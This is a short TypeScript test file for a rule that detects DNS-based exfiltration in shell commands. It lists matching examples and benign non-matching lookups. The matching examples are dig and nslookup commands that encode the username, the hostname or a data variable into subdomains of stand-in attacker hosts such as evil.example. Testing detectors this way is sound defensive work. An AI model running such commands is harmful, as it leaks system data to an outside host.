import { rule } from './dns.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'dig $(whoami).x.example.net',
    'dig $(cat /etc/hostname | base64).x.evil.example',
    'nslookup "$DATA.data.evil.example"',
  ],
  quiet: [
    'dig +short a.example.net',
    'dig "$HOST"',
  ],
});
